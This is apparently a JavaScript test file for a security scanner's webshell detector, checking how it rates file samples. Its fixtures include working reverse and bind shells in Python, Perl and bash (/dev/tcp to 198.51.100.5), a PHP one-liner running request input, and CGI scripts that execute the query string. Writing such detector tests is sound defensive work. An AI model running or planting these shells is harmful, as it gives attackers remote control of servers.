import { judgeWebFile, webshell } from '../../src/scan/detectors/webshell.js';
import { PERSIST, atLeast, runOn } from '../helpers/persist.js';

describe('webshell detector', () => {
  it('judges one-liners by language', () => {
    expect(judgeWebFile('/var/www/a.php', '<?php echo `$_GET[x]`; ?>')?.severity).toBe('critical');
    expect(judgeWebFile('/var/www/a.php', "<?php $x = shell_exec('uptime'); ?>")).toBeNull();
    expect(judgeWebFile('/var/www/logo.php.png', '<?php phpinfo(); ?>')?.rule).toBe('disguised-script');
  });

  it.each([
    ['Python reverse shell', '/usr/lib/cgi-bin/t.py', "#!/usr/bin/python3\nimport socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.5',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n", 'critical'],
    ['Python bind shell split over lines', '/var/www/html/cgi-bin/b.py', '#!/usr/bin/python3\nimport socket, pty\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 31337))\nsrv.listen(1)\nc, _ = srv.accept()\nimport os\nos.dup2(c.fileno(), 0)\npty.spawn("/bin/bash")\n', 'critical'],
    ['Perl reverse shell', '/usr/lib/cgi-bin/p', '#!/usr/bin/perl\nuse IO::Socket::INET;\n$s=IO::Socket::INET->new(PeerAddr=>"198.51.100.5:443");\nopen(STDIN,"<&",$s);open(STDOUT,">&",$s);exec("/bin/sh -i");\n', 'critical'],
    ['shell CGI running the query string', '/usr/lib/cgi-bin/run.sh', '#!/bin/sh\necho "Content-Type: text/plain"\necho\nsh -c "$QUERY_STRING"\n', 'critical'],
    ['shell CGI with a /dev/tcp shell', '/usr/lib/cgi-bin/x', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.5/8080 0>&1\n', 'critical'],
    ['Python CGI passing the form to os.system', '/usr/lib/cgi-bin/f.py', "#!/usr/bin/python3\nimport cgi, os\nos.system(cgi.FieldStorage().getvalue('c'))\n", 'critical'],
  ])('CGI: %s', (_what, path, text, severity) => {
    expect(judgeWebFile(path, text)?.severity).toBe(severity);
  });

  it.each([
    ['a CGI that prints the environment, escaped', '/usr/lib/cgi-bin/env.py', "#!/usr/bin/python3\nimport html, os\nprint('Content-Type: text/plain\\n')\nfor k, v in os.environ.items(): print(html.escape(k), html.escape(v))\n"],
    ['a shell CGI that expands the query string without running it', '/usr/lib/cgi-bin/q.sh', '#!/bin/sh\necho "Content-Type: text/plain"\necho\nname=$(echo "$QUERY_STRING" | cut -d= -f2)\necho "Hello $name"\n'],
    ['a Perl CGI that opens a socket to its database, no shell', '/usr/lib/cgi-bin/db.pl', '#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:5432");\nprint "Content-Type: text/plain\\n\\nok\\n";\n'],
  ])('CGI, benign: %s', (_what, path, text) => {
    expect(judgeWebFile(path, text)).toBeNull();
  });

  it('benign: escaped output, a fixed shell_exec and an escaping CGI greeting are not reported', async () => {
    const res = await runOn(webshell, `${PERSIST}/webshell/benign`);
    expect(res.findings).toEqual([]);
    expect(res.examined).toBe(3);
  });

  it('malicious: PHP, JSP, CGI under the nginx root, a Perl reverse shell in /usr/lib/cgi-bin, a shell CGI under the web root', async () => {
    const res = await runOn(webshell, `${PERSIST}/webshell/malicious`);
    expect(atLeast(res, 'high').map((f) => f.path).sort()).toEqual([
      '/srv/app/public/cgi-bin/diag.py',
      '/srv/app/public/upload/shell.jsp',
      '/usr/lib/cgi-bin/status.cgi',
      '/var/www/html/.config.php',
      '/var/www/html/cgi-bin/ping',
      '/var/www/html/wp-content/uploads/2024/cache.php',
    ]);
    expect(res.findings.find((f) => f.path === '/usr/lib/cgi-bin/status.cgi')).toMatchObject({ severity: 'critical', rule: 'webshell.cgi-reverse-shell', attack: 'T1505.003' });
  });
});
